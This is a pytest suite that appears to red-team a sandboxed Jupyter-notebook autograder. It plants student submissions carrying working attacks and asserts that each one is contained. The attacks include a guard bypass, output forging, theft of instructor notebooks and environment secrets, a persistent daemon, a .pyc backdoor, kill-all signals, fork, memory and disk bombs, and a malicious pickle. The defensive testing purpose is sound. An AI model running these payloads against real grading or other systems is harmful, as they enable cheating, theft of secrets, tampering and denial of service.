"""The hostile review of the grader, replayed: one test per class of attack.

A class of honest students (two full solutions, a partly right one, an untouched
notebook) hands in beside one student per attack, and is graded once, sandboxed, from
the command line (a module-scoped fixture: kernels are slow). Every test asserts, for
its attack: the attacker gets at most what its honest work deserves (here: nothing, or
nothing more than its own code earns); the honest rows are exactly what they deserve and
unflagged; the CSV is complete; no secret (an instructor notebook, a variable of the
grader's environment) appears anywhere in it; no file outside the private folders
changed (the library's tree, the submissions, the grader's home); nothing is left
running.

A second, honest-only batch after the first checks that nothing planted by the first
survives into it.
"""

from __future__ import annotations

import csv
import os
import secrets
import socket
import threading
import time
from pathlib import Path

import nbformat
import pytest

from classroom import (
    LIBRARY,
    ROOT,
    buggy,
    grade_args,
    grader_processes,
    instructor,
    need_sandbox,
    processes,
    run_cli,
    snapshot,
    student,
    write,
)
from conftest import HONEST_ATTENTION
from transformer_grader.engine import batch

TIMEOUT = "20"
SEED = "7"  # the same inputs in both batches: the same scores for the same work
TOKEN = secrets.token_hex(8)
SECRET = f"lms-secret-{TOKEN}"
HONEST = ("alice", "bob")
DESERVED = {"alice": "1.000", "bob": "1.000", "dave": "0.000"}


def _solution_marker() -> str:
    """A line only the instructor's notebook holds (the solution's first line)."""
    for cell in instructor().cells:
        if "### BEGIN SOLUTION" in cell.source:
            lines = cell.source.split("### BEGIN SOLUTION", 1)[1].strip().splitlines()
            return lines[0].strip()
    raise AssertionError("no solution region in the instructor notebook")


# --------------------------------------------------------------------------------------
# The attacks (cells appended to the untouched student notebook of assignment 1)
# --------------------------------------------------------------------------------------
# Switch the in-kernel watch off (guard replaced, profile hooks cleared in every
# thread), then call the library's reference.
GUARD_OFF = """
import sys, threading
import transformer_lib as tl
import transformer_grader.runner.guard as guard_module
import transformer_grader.runner.plan as plan_module

class NoGuard:
    def __init__(self, *args, **kwargs):
        self.hits, self.tampered = [], []
    def __enter__(self):
        return self
    def __exit__(self, *exc):
        return False
    def check(self):
        pass

guard_module.Guard = plan_module.Guard = NoGuard
sys.setprofile(None)
threading.setprofile(None)

def scaled_dot_product_attention(q, k, v, mask=None):
    return tl.scaled_dot_product_attention(q, k, v, mask)
"""

# An IPython input transformer that rewrites the grader's last cell: it finds the plan,
# the output path and the nonce in it and writes outputs of its own making, computed
# with the library's reference and with an empty list of hits.
TRANSFORMER = r"""
import re

def forge(lines):
    source = "".join(lines)
    if "_tl_run_plan" not in source:
        return lines
    found = re.findall(r"'([^']*)'", source)
    plan, out, nonce = found[-3], found[-2], found[-1]
    return [
        "import torch, transformer_lib as tl\n",
        "from transformer_grader.runner.plan import run_task\n",
        f"plan = torch.load({plan!r}, weights_only=True)\n",
        "ns = {'scaled_dot_product_attention': tl.scaled_dot_product_attention}\n",
        "tasks = {}\n",
        "for item in plan['tasks']:\n",
        "    entry = run_task(item, ns)\n",
        "    entry['hits'], entry['tampered'] = [], []\n",
        "    tasks[item['task']] = entry\n",
        f"torch.save({{'nonce': {nonce!r}, 'tasks': tasks, 'done': True}}, {out!r})\n",
    ]

get_ipython().input_transformers_cleanup.append(forge)
"""

# Read the instructor's notebooks by path (next to the library, at the repository's
# real place, anywhere on the disk) and send them back in an error message.
INSTRUCTOR_READER = """
import glob, os
import transformer_lib as tl
places = [os.path.join(os.path.dirname(os.path.dirname(tl.__file__)), "assignments"),
          "@REPO@/assignments", "/work", "/root", "/home", "/tmp", "/sandbox"]
text = ""
for place in places:
    for path in glob.glob(os.path.join(place, "**", "instructor", "*.ipynb"),
                          recursive=True)[:20]:
        try:
            text += open(path).read()
        except OSError:
            pass

def scaled_dot_product_attention(q, k, v, mask=None):
    raise RuntimeError("stolen: " + (text[-900:] or "nothing found"))
"""

# Read the grader's environment (its own, its parent's, any process's) and send it back.
ENV_READER = """
import glob, os
found = [f"{k}={v}" for k, v in os.environ.items()]
for path in glob.glob("/proc/*/environ"):
    try:
        found.append(open(path, "rb").read().decode("utf-8", "replace"))
    except OSError:
        pass
text = " ".join(found)

def scaled_dot_product_attention(q, k, v, mask=None):
    raise RuntimeError("environment: " + text[-900:])
"""

# Below Python's audit hook: libc's system() looks for the grader in /proc and for
# classmates' notebooks anywhere on the disk, then runs a classmate's solution.
CTYPES_SPY = """
import ctypes, glob, json, os
libc = ctypes.CDLL(None)
libc.system(b"cat /proc/*/cmdline > spy.txt 2>/dev/null; "
            b"find /tmp /home /sandbox / -maxdepth 4 -name '*.ipynb' "
            b">> spy.txt 2>/dev/null; "
            b"ls -la /proc/1/cwd/ /proc/1/root/ >> spy.txt 2>/dev/null")
names = open("spy.txt", errors="replace").read().replace("\\0", "\\n").split()
for path in [n for n in names if n.endswith(".ipynb")] + glob.glob("@SUBS@/*/*.ipynb"):
    try:
        cells = json.load(open(path))["cells"]
    except Exception:
        continue
    for cell in cells:
        source = "".join(cell["source"])
        if "def scaled_dot_product_attention" in source and "libc" not in source:
            exec(source)  # a classmate's solution (or an untouched template)
"""

# A daemon (forked twice through libc, its own session) that outlives the kernel and
# goes on attacking: rewriting the grades, the classmates' notebooks, their kernels.
DAEMON = """
import ctypes, os
libc = ctypes.CDLL(None)
if libc.fork() == 0:
    os.setsid()
    if libc.fork() == 0:
        os.execv("/bin/sh", ["sh", "-c", '''
            while :; do
                echo student,status > "@OUT@" 2>/dev/null
                for f in @SUBS@/*/*.ipynb; do echo '{}' > "$f" 2>/dev/null; done
                for f in /tmp/tt-grade-*/*/kernel.json; do cat "$f" >/dev/null; done
                sleep 0.2
            done''', "tt-daemon-@TOKEN@"])
    os._exit(0)
"""

# A backdoor for the next batch: bytecode in the library's __pycache__ whose header
# copies the source's mtime and size, wherever the library can be found.
PYC_PLANTER = """
import importlib.util, marshal, os, struct, sys
import transformer_lib as tl
evil = compile("def scaled_dot_product_attention(*a, **k):\\n    return 'pwned'\\n",
               "attention.py", "exec")
for package in (os.path.dirname(tl.__file__), "@LIBRARY@"):
    source = os.path.join(package, "attention.py")
    target = importlib.util.cache_from_source(source)
    try:
        st = os.stat(source)
        header = importlib.util.MAGIC_NUMBER + struct.pack(
            "<III", 0, int(st.st_mtime) & 0xFFFFFFFF, st.st_size & 0xFFFFFFFF)
        os.makedirs(os.path.dirname(target), exist_ok=True)
        with open(target, "wb") as handle:
            handle.write(header + marshal.dumps(evil))
        print("planted", target)
    except OSError as error:
        print("could not plant", target, error)
"""

# Kill the grader, then everything the kernel can signal.
KILLER = """
import ctypes, os, signal
libc = ctypes.CDLL(None)
for pid in (os.getppid(), 1):
    for kill in (os.kill, libc.kill):
        try:
            kill(pid, signal.SIGKILL)
        except OSError:
            pass
libc.kill(-1, signal.SIGKILL)
os.kill(-1, signal.SIGKILL)
"""

# Print far more than the grader keeps: many small messages, then one huge one.
FLOOD = """
import sys
chunk = "x" * 65536
for _ in range(1600):  # 100 MB
    sys.stdout.write(chunk)
print("y" * (40 * 2**20))
"""

# Fill the grader's disk through the private folder, the one place on disk a kernel
# may write: files each below the limit of one file, 20 GB in all; then a million empty
# files.
DISK_FILLER = """
block = b"x" * 2**20
for n in range(200):
    with open(f"fill{n}", "wb") as handle:
        for _ in range(100):
            handle.write(block)
"""
FILE_SPRAY = """
import os
os.makedirs("spray/deeper", exist_ok=True)
for n in range(1_000_000):
    open(f"spray/deeper/{n}", "w").close()
"""

# More memory than one kernel may hold, in processes each far below the limit of one
# process: 8 of 1 GB.
MEMORY_BOMB = """
import subprocess, sys
hold = [sys.executable, "-S", "-c", "import time; held = b'x' * 2**30; time.sleep(600)"]
holders = [subprocess.Popen(hold) for _ in range(8)]
for holder in holders:
    holder.wait()
"""

# Fork until the process limit stops it (and keep the children alive).
FORK_BOMB = """
import os, time
made = 0
try:
    while made < 100000:
        if os.fork() == 0:
            time.sleep(120)
            os._exit(0)
        made += 1
except OSError:
    pass
"""

# Replace the kernel's outputs file, over and over, by a link to a secret file of the
# grader's machine, and by a pickle that would run code if loaded unsafely.
OUTPUTS_SWAP = (
    """
import os, pickle, threading, time

class Payload:
    def __reduce__(self):
        return (os.system, ("touch @PWNED@",))

def swap():
    while True:
        for make in ("link", "pickle"):
            try:
                os.remove("../outputs.pt")
            except OSError:
                pass
            try:
                if make == "link":
                    os.symlink("@SECRET_FILE@", "../outputs.pt")
                else:
                    with open("../outputs.pt", "wb") as handle:
                        pickle.dump({"nonce": "x", "tasks": Payload()}, handle)
            except OSError:
                pass
            time.sleep(0.002)

threading.Thread(target=swap, daemon=True).start()
"""
    + HONEST_ATTENTION
)

# Talk to the grader's machine: a TCP server and a Unix socket of the test's.
NETWORK = (
    """
import socket
for family, address in ((socket.AF_INET, ("127.0.0.1", @PORT@)),
                        (socket.AF_UNIX, "@UNIX@")):
    s = socket.socket(family)
    s.settimeout(2)
    try:
        s.connect(address)
        s.sendall(b"hello from the sandbox")
    except OSError:
        pass
"""
    + HONEST_ATTENTION
)


def _attacks(subs: Path, out: Path, secret_file: Path, pwned: Path, port, unix):
    values = {
        "@REPO@": str(ROOT),
        "@SUBS@": str(subs),
        "@OUT@": str(out),
        "@TOKEN@": TOKEN,
        "@LIBRARY@": str(LIBRARY),
        "@SECRET_FILE@": str(secret_file),
        "@PWNED@": str(pwned),
        "@PORT@": str(port),
        "@UNIX@": str(unix),
    }
    attacks = {
        "guard_off": GUARD_OFF,
        "transformer": TRANSFORMER,
        "instructor_reader": INSTRUCTOR_READER,
        "env_reader": ENV_READER,
        "ctypes_spy": CTYPES_SPY,
        "daemon": DAEMON,
        "pyc_planter": PYC_PLANTER,
        "killer": KILLER,
        "flood": FLOOD,
        "fork_bomb": FORK_BOMB,
        "disk_filler": DISK_FILLER,
        "file_spray": FILE_SPRAY,
        "memory_bomb": MEMORY_BOMB,
        "outputs_swap": OUTPUTS_SWAP,
        "network": NETWORK,
    }
    found = {}
    for name, code in attacks.items():
        for key, value in values.items():
            code = code.replace(key, value)
        found[name] = code
    return found


class _Listener:
    """A TCP server and a Unix socket on the grader's machine that record any
    connection."""

    def __init__(self, folder: Path):
        self.heard: list[str] = []
        self.tcp = socket.socket()
        self.tcp.bind(("127.0.0.1", 0))
        self.tcp.listen()
        self.unix_path = folder / "grader.sock"
        self.unix = socket.socket(socket.AF_UNIX)
        self.unix.bind(str(self.unix_path))
        self.unix.listen()
        for server in (self.tcp, self.unix):
            server.settimeout(0.5)
            threading.Thread(target=self._serve, args=(server,), daemon=True).start()

    @property
    def port(self) -> int:
        return self.tcp.getsockname()[1]

    def _serve(self, server):
        while True:
            try:
                conn, _ = server.accept()
            except socket.timeout:
                continue
            except OSError:
                return
            self.heard.append(str(conn.recv(100)))
            conn.close()

    def close(self):
        self.tcp.close()
        self.unix.close()


def _grade(subs, out, *options, env=None):
    """The command line on the class in ``subs``, with the same inputs every time."""
    return run_cli(
        grade_args(subs, out, "--seed", SEED, *options),
        env=env,
    )


@pytest.fixture(scope="module")
def attacked(tmp_path_factory):
    need_sandbox()
    base = tmp_path_factory.mktemp("attacked")
    subs, out = base / "submissions", base / "grades.csv"
    home = base / "home"  # a fresh HOME for the grader: nothing of it may change
    home.mkdir()
    secret_file = base / "grader-secret.txt"
    secret_file.write_text(SECRET, encoding="utf-8")
    pwned = base / "pwned"
    listener = _Listener(base)
    files = {
        "alice/01_attention.ipynb": instructor(),
        "bob/ps1/01_attention.ipynb": instructor(),  # nbgrader's layout
        "carol/01_attention.ipynb": buggy(),
        "dave/01_attention.ipynb": student(),
    }
    attacks = _attacks(subs, out, secret_file, pwned, listener.port, listener.unix_path)
    for name, code in attacks.items():
        files[f"{name}/01_attention.ipynb"] = student(code)
    write(subs, files)
    # A folder, a FIFO and links where a notebook should be; a student's folder that is
    # a link; a notebook of another assignment; attempts in sub-folders.
    (subs / "erin" / "01_attention.ipynb").mkdir(parents=True)
    (subs / "frank").mkdir()
    os.mkfifo(subs / "frank" / "01_attention.ipynb")
    (subs / "gina").mkdir()
    (subs / "gina" / "01_attention.ipynb").symlink_to(
        subs / "alice" / "01_attention.ipynb"
    )
    (subs / "hank").symlink_to(subs / "alice")
    write(
        subs,
        {
            "jill/01_attention.ipynb": buggy(),
            "jill/05_positional.ipynb": student(assignment="05_positional"),
            "kate/01_attention.ipynb": buggy(),
            "kate/v2/01_attention.ipynb": instructor(),
            "liam/a/01_attention.ipynb": instructor(),
            "liam/b/01_attention.ipynb": instructor(),
        },
    )
    watched = (LIBRARY, subs, home)
    import transformer_grader.__main__  # noqa: F401  (its bytecode, written now)

    before = snapshot(*watched)
    env = dict(os.environ, HOME=str(home), TT_TEST_LMS_TOKEN=SECRET)
    started = time.monotonic()
    done, peak_mb = _grade(subs, out, "--timeout", TIMEOUT, "--jobs", "2", env=env)
    seconds = time.monotonic() - started
    with open(out, newline="", encoding="utf-8") as handle:
        written = handle.read()
    time.sleep(3)  # anything left behind would act now
    after = snapshot(*watched)
    with open(out, newline="", encoding="utf-8") as handle:
        rows = {row["student"]: row for row in csv.DictReader(handle)}
    state = {
        "done": done,
        "peak_mb": peak_mb,
        "seconds": seconds,
        "rows": rows,
        "written": written,
        "out": out,
        "changed": {
            p for p in set(before) | set(after) if before.get(p) != after.get(p)
        },
        "left": grader_processes() + processes(f"tt-daemon-{TOKEN}"),
        "heard": list(listener.heard),
        "pwned": pwned.exists(),
        "subs": subs,
        "home": home,
    }
    listener.close()
    yield state
    if os.environ.get("TT_SHOW_ROWS"):  # for a person reading the run
        print(f"grader peak {state['peak_mb']:.0f} MB, {state['seconds']:.1f} s")
        for name, row in rows.items():
            status, flags = row["status"][:160], row["flags"][:200]
            print(f"{name:18} {row['attention']} | {status} | {flags}")
    for line in state["left"]:  # never leave a process behind, even when a test fails
        try:
            os.kill(int(line.split(":")[0]), 9)
        except (OSError, ValueError):
            pass


def _row(attacked, name):
    return attacked["rows"][name]


def test_the_batch_finished_and_the_csv_is_complete(attacked):
    done = attacked["done"]
    assert done.returncode == 0, done.stderr[-3000:]
    rows = attacked["rows"]
    expected = {p.name for p in attacked["subs"].iterdir()}
    assert set(rows) == expected
    assert all(r["max_total"] == "1" for r in rows.values())
    assert list(next(iter(rows.values()))) == [
        *batch.FIXED_COLUMNS,
        "attention",
        *batch.END_COLUMNS,
    ]
    assert all(r["sandbox"] == "bubblewrap" for r in rows.values())


def test_honest_students_get_what_they_deserve_unflagged(attacked):
    rows = attacked["rows"]
    for name, score in DESERVED.items():
        assert rows[name]["attention"] == score, (name, rows[name]["feedback"])
        assert rows[name]["flags"] == "", (name, rows[name]["flags"])
        assert rows[name]["status"] == "ok", (name, rows[name]["status"])
    carol = rows["carol"]
    assert 0.0 < float(carol["attention"]) < 1.0 and carol["flags"] == ""


def test_switching_the_watch_off_does_not_reach_the_reference(attacked):
    row = _row(attacked, "guard_off")
    assert row["attention"] == "0.000"
    assert "transformer_lib.attention.scaled_dot_product_attention" in row["flags"]
    assert "your code used transformer_lib.attention" in row["feedback"]


def test_rewriting_the_graders_cell_forges_nothing(attacked):
    """There is no grader's cell in the kernel any more (issue 27): the cases run in a
    fresh interpreter; the transformer is flagged and the stub scores what it earns."""
    row = _row(attacked, "transformer")
    assert row["attention"] == "0.000"
    assert "rewrites the cells IPython runs" in row["flags"]


def test_no_instructor_notebook_and_no_secret_comes_back(attacked):
    marker = _solution_marker()
    assert marker not in attacked["written"]
    assert "BEGIN SOLUTION" not in attacked["written"]
    assert SECRET not in attacked["written"] and TOKEN not in attacked["written"]
    # its graded code imports os and opens files: flagged from the source, refused by the
    # guards where the cases run, so its function finds nothing and says so (in its
    # kernel it ran and found nothing to send back either; what a sandbox sees is tested
    # in test_grading_sandbox.py)
    row = _row(attacked, "instructor_reader")
    assert "nothing found" in row["feedback"], row["feedback"]
    assert "the grader would refuse its graded code: imports glob" in row["flags"], row
    for name in ("instructor_reader", "env_reader"):
        assert _row(attacked, name)["attention"] == "0.000"


def test_code_below_python_finds_no_classmate(attacked):
    row = _row(attacked, "ctypes_spy")
    assert row["attention"] == "0.000"
    assert "calls C functions directly (ctypes)" in row["flags"]


def test_nothing_outlives_its_kernel(attacked):
    assert attacked["left"] == []
    # the daemon's writes to the grades and the classmates' notebooks never happened
    assert attacked["written"].startswith("student,status,attention")
    assert not any(p for p in attacked["changed"] if str(attacked["subs"]) in p)


def test_no_file_outside_the_private_folders_changed(attacked):
    assert attacked["changed"] == set()
    assert list(attacked["home"].iterdir()) == []


def test_no_backdoor_survives_into_the_next_batch(attacked, tmp_path):
    assert _row(attacked, "pyc_planter")["attention"] == "0.000"
    subs = tmp_path / "next"
    write(
        subs,
        {
            "alice/01_attention.ipynb": instructor(),
            "carol/01_attention.ipynb": buggy(),
            "dave/01_attention.ipynb": student(),
        },
    )
    out = tmp_path / "next.csv"
    done, _ = _grade(subs, out)
    assert done.returncode == 0, done.stderr[-2000:]
    with open(out, newline="", encoding="utf-8") as handle:
        rows = {row["student"]: row for row in csv.DictReader(handle)}
    assert rows["alice"]["attention"] == "1.000"
    assert rows["dave"]["attention"] == "0.000"
    assert rows["carol"]["attention"] == attacked["rows"]["carol"]["attention"]
    assert all(not r["flags"] for r in rows.values())


def test_killing_the_grader_costs_the_attacker_only(attacked):
    row = _row(attacked, "killer")
    assert row["attention"] == "0.000"
    assert attacked["rows"]["alice"]["attention"] == "1.000"


def test_a_flood_of_output_is_capped_and_costs_the_flooder_only(attacked):
    row = _row(attacked, "flood")
    assert row["attention"] == "0.000"
    assert attacked["peak_mb"] < 1000, attacked["peak_mb"]


def test_a_fork_bomb_is_stopped_by_the_process_limit(attacked):
    assert _row(attacked, "fork_bomb")["attention"] == "0.000"
    assert attacked["left"] == []


def test_filling_the_disk_is_stopped_and_costs_the_filler_only(attacked):
    filler, spray = _row(attacked, "disk_filler"), _row(attacked, "file_spray")
    assert filler["status"].startswith("stopped: its folder held more than 1024 MB")
    assert spray["status"].startswith("stopped: its folder held more than 10000 files")
    assert filler["attention"] == spray["attention"] == "0.000"
    assert attacked["rows"]["bob"]["attention"] == "1.000"


def test_memory_held_by_many_processes_is_stopped_and_costs_the_holder_only(attacked):
    row = _row(attacked, "memory_bomb")
    assert row["status"].startswith("stopped: its processes held more than 6144 MB")
    assert row["attention"] == "0.000"
    assert attacked["rows"]["alice"]["attention"] == "1.000"


def test_the_outputs_file_is_never_followed_or_unpickled(attacked):
    row = _row(attacked, "outputs_swap")
    assert not attacked["pwned"]
    assert SECRET not in row["feedback"] + row["status"]
    # its honest attention is worth what it is, unless a swapped file was all that
    # came back: then it scores 0 with the reason
    assert row["attention"] in ("1.000", "0.000")
    if row["attention"] == "0.000":
        assert "grading failed" in row["status"] or "nonce" in row["flags"]


def test_the_sandbox_has_no_network(attacked):
    assert attacked["heard"] == []
    assert _row(attacked, "network")["attention"] == "1.000"


def test_what_is_not_a_notebook_file_gets_a_row_with_the_reason(attacked):
    rows = attacked["rows"]
    assert "is a folder" in rows["erin"]["status"]
    assert "is a FIFO" in rows["frank"]["status"]
    assert "is a symbolic link" in rows["gina"]["status"]
    assert "is a symbolic link" in rows["hank"]["status"]
    for name in ("erin", "frank", "gina", "hank"):
        assert rows[name]["attention"] == "0.000" and rows[name]["total"] == "0.000"


def test_another_assignments_notebook_changes_no_one_elses_row(attacked):
    rows = attacked["rows"]
    assert "positional" not in rows["jill"]
    assert rows["jill"]["max_total"] == "1" and rows["alice"]["max_total"] == "1"
    assert "05_positional" in attacked["done"].stderr  # noted in the log


def test_several_attempts_are_flagged_and_never_the_best_kept(attacked):
    kate, liam = attacked["rows"]["kate"], attacked["rows"]["liam"]
    assert float(kate["attention"]) < 1.0  # the one nearest the top: the buggy one
    assert "ignored kate/v2/01_attention.ipynb" in kate["flags"]
    assert liam["attention"] == "0.000"
    assert "none was graded" in liam["flags"]


def test_switching_the_watch_off_in_a_two_task_assignment(tmp_path):
    """Assignment 7 (the schedule and a training step, one kernel): the guard switched
    off and the library's references called, for both tasks."""
    need_sandbox()
    attack = GUARD_OFF.replace(
        "def scaled_dot_product_attention(q, k, v, mask=None):\n"
        "    return tl.scaled_dot_product_attention(q, k, v, mask)",
        "def noam_lr(step, d_model, warmup):\n"
        "    return tl.noam_lr(step, d_model, warmup)\n\n"
        "def train_step(model, src, tgt, optimizer, scheduler, label_smoothing=0.0):\n"
        "    return tl.train_step(model, src, tgt, optimizer, scheduler,\n"
        "                         label_smoothing=label_smoothing)[0]",
    )
    assert attack != GUARD_OFF
    subs, out = tmp_path / "subs", tmp_path / "grades.csv"
    write(
        subs,
        {
            "alice/07_training.ipynb": instructor("07_training"),
            "mallory/07_training.ipynb": student(attack, assignment="07_training"),
        },
    )
    done, _ = run_cli(grade_args(subs, out, assignment="07_training"))
    assert done.returncode == 0, done.stderr[-2000:]
    with open(out, newline="", encoding="utf-8") as handle:
        rows = {row["student"]: row for row in csv.DictReader(handle)}
    alice, mallory = rows["alice"], rows["mallory"]
    assert (alice["noam"], alice["train_step"]) == ("1.000", "1.000")
    assert alice["flags"] == ""
    assert (mallory["noam"], mallory["train_step"]) == ("0.000", "0.000")
    assert "transformer_lib.training.noam_lr" in mallory["flags"]
    assert "transformer_lib.training.train_step" in mallory["flags"]
    assert grader_processes() == []


# Keep every core busy until the kernel is stopped: 100 busy processes, each in a
# session of its own (so that no scheduler groups them), and the kernel itself.
CPU_HOG = """
import subprocess, sys
spin = [sys.executable, "-S", "-c", "while True: pass"]
hogs = [subprocess.Popen(spin, start_new_session=True) for _ in range(100)]
while True:
    pass
"""


def test_a_neighbour_that_takes_every_core_cannot_time_a_classmate_out(tmp_path):
    """Two kernels at once: the hog and an honest student whose notebook needs a few
    seconds of CPU. Beside the hog it times out; it is graded again alone."""
    need_sandbox()
    honest = instructor()
    honest.cells.append(  # about a second of honest work (alone), after the solution
        nbformat.v4.new_code_cell(
            "import time, torch\ntime.sleep(3)  # a pause: the hog is in full swing\n"
            "x = torch.randn(1024, 1024)\n"
            "for _ in range(100):\n    x = torch.tanh(x @ x.T / 1024)"
        )
    )
    subs, out = tmp_path / "subs", tmp_path / "grades.csv"
    write(
        subs,
        {"hog/01_attention.ipynb": student(CPU_HOG), "zoe/01_attention.ipynb": honest},
    )
    done, _ = _grade(subs, out, "--timeout", "10", "--jobs", "2")
    assert done.returncode == 0, done.stderr[-2000:]
    with open(out, newline="", encoding="utf-8") as handle:
        rows = {row["student"]: row for row in csv.DictReader(handle)}
    assert rows["zoe"]["status"] == "ok" and rows["zoe"]["attention"] == "1.000"
    assert rows["zoe"]["flags"] == ""
    assert rows["hog"]["status"].startswith("timed out")
    assert rows["hog"]["attention"] == "0.000"
    assert "hog (hog/01_attention.ipynb): timed out with other kernels running" in (
        done.stderr + done.stdout
    )
    assert grader_processes() == []
